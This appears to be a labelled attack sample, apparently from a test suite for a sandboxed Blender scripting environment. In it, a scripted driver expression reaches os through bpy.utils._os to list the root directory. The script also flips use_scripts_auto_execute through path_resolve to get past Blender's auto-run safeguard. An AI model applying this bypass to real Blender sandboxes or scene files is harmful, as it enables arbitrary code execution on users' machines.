# attack: the list of drivers by path_resolve; a scripted driver evaluates Python whenever facts or exporter look at the scene
# family: drivers
import bpy

bpy.ops.mesh.primitive_cube_add()
cube = bpy.context.object
cube.animation_data_create()
curve = cube.path_resolve("animation_data.drivers").new("location", index=0)
curve.driver.type = "SCRIPTED"
curve.driver.expression = "len(bpy.utils._os.listdir('/'))"
print("REACHED", curve.driver.expression)
bpy.context.path_resolve("preferences.filepaths").use_scripts_auto_execute = True
curve.driver.expression += " "
bpy.context.view_layer.update()
seen = cube.evaluated_get(bpy.context.evaluated_depsgraph_get()).location.x
if seen > 2:
    print("the driver ran: a listing of / has", seen, "entries")
